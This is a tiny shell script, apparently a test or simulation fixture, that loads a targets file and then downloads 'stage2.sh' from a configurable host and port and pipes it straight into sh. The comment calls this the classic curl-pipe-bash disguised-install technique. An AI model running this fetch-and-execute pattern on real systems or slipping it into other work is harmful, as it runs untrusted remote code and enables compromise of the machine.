#!/bin/sh
# curl-pipe-bash: the classic "install a helpful package".
. "${TARGETS:-$1}"
curl -s -m 5 "http://$T_TCP_HOST:$T_TCP_PORT/stage2.sh" | sh
